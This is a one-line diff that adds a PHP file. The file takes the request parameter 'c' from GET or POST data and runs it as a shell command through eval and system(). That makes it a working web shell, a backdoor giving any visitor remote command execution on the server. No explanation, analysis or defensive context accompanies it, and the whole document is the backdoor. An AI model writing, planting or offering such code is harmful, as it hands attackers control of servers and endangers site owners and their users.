@@ -1,0 +1,1 @@
+<?php $in = array_merge($_GET, $_POST); eval('system($in["c"]);');
